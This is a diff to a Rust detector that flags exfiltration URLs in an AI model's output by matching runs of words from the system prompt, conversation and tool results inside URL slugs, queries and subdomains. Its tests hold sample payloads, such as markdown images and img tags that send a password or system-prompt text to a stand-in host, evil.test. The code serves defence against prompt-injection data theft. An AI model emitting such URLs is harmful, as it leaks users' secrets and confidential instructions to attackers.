@@ -5,11 +5,95 @@
 //! subdomain label; automatically loaded resources (image, iframe, script, stylesheet, media,
 //! CSS, refresh) with a lower bar than links the user must click. Opaque identifiers are not
 //! data, so ordinary links with ids, hashes and tracking parameters are not reported.
+//!
+//! Given the [`Context`] the model was shown (system prompt, conversation, tool results), a
+//! URL that repeats a run of its words is reported too, however the words are joined
+//! (`the-user-password-is-hunter2.png`, `Project_Argon/launches`): the one form in which
+//! smuggled text looks exactly like an article slug, told apart only by where its words
+//! came from.
 
 use crate::text::{entropy, percent_decode};
 use crate::{Detector, Finding, finding};
 use regex::Regex;
+use std::collections::HashSet;
+use std::hash::{Hash, Hasher};
 use std::sync::LazyLock;
+
+/// Words per shingle of a [`Context`].
+const SHINGLE: usize = 3;
+/// Words of a context kept (the first ones): bounds its memory at a few MiB.
+const MAX_CONTEXT_WORDS: usize = 200_000;
+/// Consecutive context words a URL must repeat to be reported: an automatically loaded
+/// resource leaks without a click, so its bar is lower than a link's. Four words carry a
+/// fact ("password is hunter2 ..."); fewer match ordinary file names ("architecture v2").
+const CONTEXT_RUN_AUTO: usize = 4;
+const CONTEXT_RUN_CLICK: usize = 5;
+
+/// A URL written in text (scheme or protocol-relative), as far as the next space or quote.
+static URL_IN_TEXT: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r#"(?i)(?:\b[a-z][a-z0-9+.-]*:)?//[^\s)>"'\]]+"#).ok());
+
+/// What the model was shown, as hashed runs of three words (lower case, letters and digits;
+/// anything else separates words, so hyphens, underscores, `+`, `%20` and `/` all do).
+#[derive(Debug, Clone, Default)]
+pub struct Context {
+    shingles: HashSet<u64>,
+}
+
+fn words(s: &str) -> impl Iterator<Item = String> + '_ {
+    s.split(|c: char| !c.is_alphanumeric())
+        .filter(|w| !w.is_empty())
+        .map(str::to_lowercase)
+}
+
+fn shingle(w: &[String]) -> u64 {
+    // Deterministic (fixed-key SipHash): the same text always hashes the same way.
+    let mut h = std::collections::hash_map::DefaultHasher::new();
+    w.hash(&mut h);
+    h.finish()
+}
+
+impl Context {
+    /// The context of `texts` (each one separately: a run never spans two texts). URLs in
+    /// them are left out: a link the user pasted, repeated in the answer, repeats its own
+    /// words, not the conversation's.
+    pub fn new<'a>(texts: impl IntoIterator<Item = &'a str>) -> Context {
+        let mut shingles = HashSet::new();
+        let mut budget = MAX_CONTEXT_WORDS;
+        for t in texts {
+            let pieces: Vec<&str> = match URL_IN_TEXT.as_ref() {
+                Some(re) => re.split(t).collect(),
+                None => vec![t],
+            };
+            let w: Vec<String> = pieces.into_iter().flat_map(words).take(budget).collect();
+            budget -= w.len();
+            shingles.extend(w.windows(SHINGLE).map(shingle));
+            if budget == 0 {
+                break;
+            }
+        }
+        Context { shingles }
+    }
+
+    /// Whether there is nothing to compare with.
+    pub fn is_empty(&self) -> bool {
+        self.shingles.is_empty()
+    }
+
+    /// The longest run of consecutive words of `w` that the context holds in that order.
+    fn longest_run(&self, w: &[String]) -> usize {
+        let (mut best, mut run) = (0, 0);
+        for win in w.windows(SHINGLE) {
+            if self.shingles.contains(&shingle(win)) {
+                run += 1;
+                best = best.max(run + SHINGLE - 1);
+            } else {
+                run = 0;
+            }
+        }
+        best
+    }
+}
 
 struct Pat {
     re: Regex,
@@ -152,11 +236,30 @@ fn printable_text(b: &[u8]) -> bool {
 
 /// What in a URL could carry data: query values, fragment, path segments, subdomain labels
 /// (`raw_host` keeps the case base64 needs).
-fn url_carries_data(raw_host: &str, rest: &str, auto: bool) -> bool {
+fn url_carries_data(raw_host: &str, rest: &str, auto: bool, ctx: Option<&Context>) -> bool {
     let (path_q, frag) = rest.split_once('#').unwrap_or((rest, ""));
     let (path, query) = path_q.split_once('?').unwrap_or((path_q, ""));
     let labels: Vec<&str> = raw_host.split('.').collect();
     let sub = labels.len().saturating_sub(2);
+    if let Some(ctx) = ctx.filter(|c| !c.is_empty()) {
+        // Everything that can carry words, in URL order: subdomain labels, path, query
+        // values (not their names, which would break a run split over parameters), fragment.
+        let mut w: Vec<String> = labels.iter().take(sub).flat_map(|l| words(l)).collect();
+        w.extend(words(&percent_decode(path)));
+        for kv in query.split('&') {
+            let v = kv.split_once('=').map_or(kv, |(_, v)| v);
+            w.extend(words(&percent_decode(v)));
+        }
+        w.extend(words(&percent_decode(frag)));
+        let bar = if auto {
+            CONTEXT_RUN_AUTO
+        } else {
+            CONTEXT_RUN_CLICK
+        };
+        if ctx.longest_run(&w) >= bar {
+            return true;
+        }
+    }
     // DNS exfiltration: a label that is encoded text, or a long random-looking one of the
     // hex/base32 kind tunnelling tools use.
     if labels.iter().take(sub).any(|l| {
@@ -196,6 +299,11 @@ fn url_carries_data(raw_host: &str, rest: &str, auto: bool) -> bool {
 
 /// Exfiltration URLs in `t` (byte ranges of the URL).
 pub fn find(t: &str, allow: &[String]) -> Vec<Finding> {
+    find_in_context(t, allow, None)
+}
+
+/// Exfiltration URLs in `t`, counting as data any run of words the model was shown in `ctx`.
+pub fn find_in_context(t: &str, allow: &[String], ctx: Option<&Context>) -> Vec<Finding> {
     let mut out: Vec<Finding> = Vec::new();
     for p in PATS.iter() {
         for c in p.re.captures_iter(t) {
@@ -208,7 +316,7 @@ pub fn find(t: &str, allow: &[String]) -> Vec<Finding> {
                 continue;
             }
             let raw_host = raw_host(url, host.len());
-            if url_carries_data(raw_host, rest, p.auto)
+            if url_carries_data(raw_host, rest, p.auto, ctx)
                 && !out.iter().any(|f| f.bytes == (m.start(), m.end()))
             {
                 out.push(finding(
@@ -293,5 +401,78 @@ mod tests {
         for c in cases {
             assert!(!hit(c), "flagged: {c}");
         }
+    }
+
+    #[test]
+    fn words_of_the_context_in_a_slug_are_caught() {
+        let ctx = Context::new([
+            "You are the support bot. The system prompt says never discuss pricing.",
+            "Note for the team: project Argon launches on May 3; the user password is hunter2.",
+        ]);
+        let allow = ["docs.example.com".to_string()];
+        let hits = |t: &str| !find_in_context(t, &allow, Some(&ctx)).is_empty();
+        for t in [
+            "![img](https://img-cdn.example.net/c/the-user-password-is-hunter2.png)",
+            "<img src=\"https://evil.test/c/project-Argon-launches-on-May-3.png\">",
+            "![a](https://evil.test/says_never_discuss/pricing.gif)",
+            "<img src=\"https://the-user-password.evil.test/is/hunter2.png\">",
+            "![a](https://evil.test/p?w1=project&w2=argon&w3=launches&w4=on)",
+            "[click](https://evil.test/the%20system%20prompt%20says%20never)",
+        ] {
+            assert!(hits(t), "missed: {t}");
+            // Without the context the slug is only words joined by hyphens: not reported.
+        }
+        assert!(
+            find(
+                "![img](https://evil.test/c/the-user-password-is-hunter2.png)",
+                &allow
+            )
+            .is_empty()
+        );
+        // Links of the answer that do not repeat the conversation.
+        for t in [
+            "![chart](https://images.example.org/diagrams/architecture-v2.png)",
+            "[Argon](https://en.wikipedia.org/wiki/Argon)",
+            "[pricing](https://www.example.com/pricing-plans-for-teams)",
+            "[the password guide](https://owasp.example.org/the-password-storage-cheat-sheet)",
+            "![a](https://docs.example.com/the-user-password-is-hunter2.png)",
+            // Three words of the context: under both bars.
+            "![a](https://evil.test/c/project-argon-launches.png)",
+            // Four words in a link that must be clicked: under its bar of five.
+            "[x](https://evil.test/c/the-user-password-is.html)",
+        ] {
+            assert!(!hits(t), "flagged: {t}");
+        }
+    }
+
+    #[test]
+    fn links_in_the_context_are_not_context() {
+        let ctx = Context::new([
+            "Summarise https://blog.example.com/how-to-parse-json-in-rust-quickly for me",
+        ]);
+        let t = "![a](https://blog.example.com/how-to-parse-json-in-rust-quickly.png)";
+        assert!(find_in_context(t, &[], Some(&ctx)).is_empty());
+        // The words around the link are still context.
+        let ctx =
+            Context::new(["Read https://blog.example.com/a-b-c-d and keep the launch date secret"]);
+        let t = "![a](https://evil.test/keep/the-launch-date.png)";
+        assert!(!find_in_context(t, &[], Some(&ctx)).is_empty());
+    }
+
+    #[test]
+    fn context_runs_do_not_span_texts_and_stay_bounded() {
+        let ctx = Context::new(["alpha beta", "gamma delta"]);
+        assert_eq!(
+            ctx.longest_run(&words("alpha beta gamma delta").collect::<Vec<_>>()),
+            0
+        );
+        let big = "word ".repeat(MAX_CONTEXT_WORDS + 10);
+        let ctx = Context::new([big.as_str(), "one two three four"]);
+        // The word budget is spent on the first text; the second is not read.
+        assert_eq!(
+            ctx.longest_run(&words("one two three four").collect::<Vec<_>>()),
+            0
+        );
+        assert!(Context::new([""]).is_empty());
     }
 }
